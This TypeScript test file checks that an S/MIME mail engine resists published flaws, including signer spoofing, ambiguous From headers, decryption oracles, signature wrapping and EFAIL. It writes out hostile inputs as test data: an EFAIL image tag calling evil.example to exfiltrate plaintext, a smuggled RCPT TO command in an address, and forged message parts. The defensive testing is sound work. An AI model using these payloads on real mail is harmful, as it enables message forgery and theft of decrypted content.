/**
 * Published flaws of mail gateways and mail programs, one test each, by the number of the advisory where there is one.
 * scripts/planted-flaws.test.ts puts every flaw back and sees its test fail.
 */
import assert from 'node:assert/strict'
import { constants, publicEncrypt, randomBytes } from 'node:crypto'
import { test } from 'node:test'
import { NOW, makePerson, root } from '../../test/pki.ts'
import type { Person } from '../../test/pki.ts'
import { readContentInfo } from '../cms/content-info.ts'
import { decryptContent } from '../cms/decrypt.ts'
import { encryptPieces } from '../cms/content-encryption.ts'
import { writeAlgorithm } from '../der/algorithm.ts'
import { Oid } from '../der/oid.ts'
import { explicit, integer, nil, octets, oid, sequence, set, tlv } from '../der/writer.ts'
import { EngineError } from '../errors.ts'
import { parseAddresses, parseMailbox } from '../mime/address.ts'
import { decryptCms, decryptMessage } from './decrypt.ts'
import { encryptEntity } from './encrypt.ts'
import { signEntity } from './sign.ts'
import type { VerifyOptions } from './verdict.ts'
import { verifyMessage } from './verify.ts'

const options: VerifyOptions = { anchors: [root], at: NOW, revocation: 'none' }
const alice = makePerson('alice', 'p256')
const mallory = makePerson('mallory', 'p256')
const bob = makePerson('bob', 'rsa')
const ENTITY = Buffer.from('Content-Type: text/plain\r\n\r\nPay 10 to Bob\r\n')

const sign = (person: Person, entity: Buffer = ENTITY): Buffer =>
  Buffer.concat(signEntity([entity], person, { at: NOW, boundary: 'b0undaryb0undary' }))
const seal = (entity: Buffer): Buffer =>
  Buffer.concat(
    encryptEntity([entity], {
      recipients: [bob.certificate],
      cipher: 'aes256-gcm',
      keyTransport: 'pkcs1v15',
    }),
  )
const mail = (entity: Buffer, from = alice.email): Buffer =>
  Buffer.concat([Buffer.from(`From: ${from}\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n`), entity])
const statusOf = (bytes: Buffer): string => verifyMessage(bytes, options).status
const multipart = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat([
    Buffer.from('Content-Type: multipart/mixed; boundary=x\r\n'),
    ...parts.flatMap((part) => [Buffer.from('\r\n--x\r\n'), Buffer.from(part)]),
    Buffer.from('\r\n--x--\r\n'),
  ])

test('CVE-2026-2748: an address with white space or look-alikes in a certificate stands for nobody', () => {
  assert.equal(statusOf(mail(sign(alice))), 'valid')
  const spoofs = ['alice@example.org ', ' alice@example.org', 'al ice@example.org', 'alice@example.org\n']
  for (const address of [...spoofs, 'alice@example.org\0', 'аlice@example.org']) {
    const spoofer = makePerson('spoofer', 'p256', { emails: [address] })
    assert.equal(statusOf(mail(sign(spoofer))), 'signer-mismatch', JSON.stringify(address))
  }
})

test('CVE-2026-27443: no header field from inside an encrypted mail comes out but those of its content', () => {
  const inside = 'X-MS-Exchange-Organization-AuthAs: Internal\r\nSubject: [secure]\r\nX-Spam: no\r\n'
  const { message } = decryptMessage(mail(seal(Buffer.concat([Buffer.from(inside), ENTITY]))), [bob], options)
  const text = Buffer.concat(message ?? []).toString()
  assert.match(text, /Pay 10/)
  assert.doesNotMatch(text, /AuthAs|\[secure\]|X-Spam/)
})

test('CVE-2026-27444: a From that two parsers may read in two ways binds no signer', () => {
  const unclear = [
    `${alice.email}\r\nFrom: ceo@example.org`,
    `${alice.email}, ceo@example.org`,
    `<ceo@example.org> <${alice.email}>`,
    `"ceo@example.org" ${alice.email}`,
    `ceo@example.org\0, ${alice.email}`,
    `ceo@example.org <${alice.email}`,
    `alice@example.org@evil.example`,
  ]
  for (const from of unclear) assert.notEqual(statusOf(mail(sign(alice), from)), 'valid', from)
})

test('CVE-2026-27445: a good signature of somebody else than the From address is not valid', () => {
  const verdict = verifyMessage(mail(sign(mallory)), options)
  assert.deepEqual([verdict.status, verdict.signers[0]?.status], ['signer-mismatch', 'valid'])
  assert.ok(verdict.reasons.includes('signer-address-mismatch'))
})

test('CVE-2026-2746: the result is always stated, inside encryption as well', () => {
  const changed = Buffer.from(sign(alice).toString('latin1').replace('Pay 10', 'Pay 99'), 'latin1')
  assert.equal(decryptMessage(mail(seal(changed)), [bob], options).verified?.status, 'invalid')
  assert.equal(decryptMessage(mail(seal(sign(mallory))), [bob], options).verified?.status, 'signer-mismatch')
  assert.equal(decryptMessage(mail(changed), [bob], options).verified?.status, 'invalid')
  for (const entity of [changed, ENTITY, seal(ENTITY)]) {
    const { status, reasons } = verifyMessage(mail(entity), options)
    assert.notEqual(status, 'valid')
    assert.ok(reasons.length > 0)
  }
})

/** EnvelopedData in AES-CBC with recipient entries made by hand. */
function enveloped(
  entries: (contentKey: Buffer) => readonly Buffer[],
  algorithm: 'aes128-cbc' | 'aes128-gcm' = 'aes128-gcm',
): Buffer {
  const { key, algorithm: written, pieces, mac } = encryptPieces(algorithm, [ENTITY])
  const info = sequence(oid(Oid.idData), written, tlv(0x80, ...pieces))
  const data = sequence(integer(0), set(...entries(key)), info, ...(mac === null ? [] : [octets(mac)]))
  return sequence(oid(mac === null ? Oid.idEnvelopedData : Oid.idCtAuthEnvelopedData), explicit(0, data))
}

const V15 = writeAlgorithm(Oid.rsaEncryption, nil())

function entry(person: Person, contentKey: Buffer, algorithm = V15): Buffer {
  const { certificate } = person
  const encrypted = publicEncrypt(
    { key: certificate.publicKey, padding: constants.RSA_PKCS1_PADDING },
    contentKey,
  )
  return sequence(integer(0), certificate.issuerAndSerial, algorithm, octets(encrypted))
}

const outcome = (bytes: Buffer): unknown[] => {
  const { status, reasons, keyEncryption, entity } = decryptCms(bytes, [bob], options)
  return [status, reasons, keyEncryption, entity]
}
const FAILED = ['failed', ['decrypt-failed'], 'pkcs1v15', null]

test('CVE-2026-42768: one entry, chosen by its exact identifier, meets the private key; the answers are one', () => {
  assert.equal(outcome(enveloped((key) => [entry(bob, key)]))[0], 'decrypted')
  // A second entry for the same certificate is no second try.
  assert.deepEqual(outcome(enveloped((key) => [entry(bob, randomBytes(16)), entry(bob, key)])), FAILED)
  assert.deepEqual(outcome(enveloped(() => [entry(bob, randomBytes(5))])), FAILED)
  // Nobody's entry is never tried.
  const other = makePerson('other', 'rsa', {}, 'other')
  assert.deepEqual(outcome(enveloped((key) => [entry(other, key)])), [
    'failed',
    ['no-matching-recipient'],
    null,
    null,
  ])
})

test('CVE-2026-69247: whatever is wrong with a key or a tag, the failure is one and the same', () => {
  const noise = sequence(integer(0), bob.certificate.issuerAndSerial, V15, octets(randomBytes(256)))
  const short = sequence(integer(0), bob.certificate.issuerAndSerial, V15, octets(randomBytes(7)))
  const cases = [[entry(bob, randomBytes(16))], [entry(bob, randomBytes(24))], [noise], [short]]
  for (const entries of cases) {
    const bytes = enveloped(() => entries)
    assert.deepEqual(outcome(bytes), FAILED)
    const info = readContentInfo(bytes)
    assert.ok(info.kind === 'auth-enveloped-data')
    assert.equal(decryptContent(info, [bob]).reason, 'decrypt-failed')
  }
  const good = enveloped((key) => [entry(bob, key)])
  good.writeUInt8((good.at(-1) ?? 0) ^ 1, good.length - 1)
  assert.deepEqual(outcome(good), FAILED)
  // Neither does it show that a layer was opened and what is inside is broken.
  const inside = 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nno object'
  const { status, reasons, entity } = decryptMessage(mail(seal(Buffer.from(inside))), [bob], options)
  assert.deepEqual([status, reasons, entity], ['failed', ['decrypt-failed'], null])
})

test('OpenSSL #32567: malformed OAEP parameters never fall back to v1.5', () => {
  const broken = [undefined, nil(), sequence(integer(1)), sequence(explicit(0, writeAlgorithm(Oid.md5)))]
  for (const parameters of broken) {
    const algorithm = writeAlgorithm(Oid.idRsaesOaep, parameters ?? null)
    const [status, reasons, , entity] = outcome(enveloped((key) => [entry(bob, key, algorithm)]))
    assert.deepEqual([status, entity], ['failed', null])
    assert.notDeepEqual(reasons, ['decrypt-failed'])
  }
})

test('MimeKit 4.15.1: an address with CR, LF or NUL in a quoted local part is no address', () => {
  for (const control of ['\r', '\n', '\r\n', '\0'])
    for (const text of [`"a${control}RCPT TO:<x@y>"@example.org`, `"a\\${control}b"@example.org`]) {
      assert.equal(parseMailbox(text), null)
      const { mailboxes, ambiguous } = parseAddresses(text)
      assert.ok(ambiguous || mailboxes.length === 0)
    }
})

test('MimeKit 4.16 #1224: one recipient who cannot be encrypted to stops the whole mail', () => {
  const signsOnly = makePerson('signs-only', 'p256', { keyUsage: ['digitalSignature'] })
  const { certificate } = bob
  for (const recipients of [[certificate, signsOnly.certificate], [signsOnly.certificate, certificate], []])
    assert.throws(
      () => encryptEntity([ENTITY], { recipients, cipher: 'aes256-gcm', keyTransport: 'pkcs1v15' }),
      EngineError,
    )
})

test('Johnny, you are fired: only a signature over the root of the mail counts', () => {
  const forged = 'Content-Type: text/html\r\n\r\nPay 99 to Eve\r\n'
  assert.equal(statusOf(mail(multipart(forged, sign(alice)))), 'partial')
  assert.equal(statusOf(mail(multipart(sign(alice), forged))), 'partial')
  assert.equal(statusOf(mail(multipart(sign(alice)))), 'partial')
  const attached = Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), mail(sign(alice))])
  assert.notEqual(statusOf(mail(multipart(forged, attached))), 'valid')
  // A third part beside content and signature would be shown and not signed.
  const boundary = '--=_b0undaryb0undary'
  const third = sign(alice)
    .toString('latin1')
    .replace(`${boundary}--`, `${boundary}\r\n\r\nPay 99\r\n${boundary}--`)
  assert.match(third, /Pay 99/)
  assert.notEqual(statusOf(mail(Buffer.from(third, 'latin1'))), 'valid')
})

test('EFAIL: an encrypted part is never decrypted among others, and CBC alone proves nothing', () => {
  const exfiltrate = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
  for (const parts of [[exfiltrate, seal(ENTITY)], [seal(ENTITY)], [seal(ENTITY), exfiltrate]]) {
    const result = decryptMessage(mail(multipart(...parts)), [bob], options)
    assert.deepEqual(
      [result.status, result.entity, result.reasons],
      ['not-encrypted', null, ['encrypted-part-not-root']],
    )
  }
  const { reasons, authenticated } = decryptCms(
    enveloped((key) => [entry(bob, key)], 'aes128-cbc'),
    [bob],
    options,
  )
  assert.deepEqual([reasons, authenticated], [['legacy-unauthenticated'], false])
})
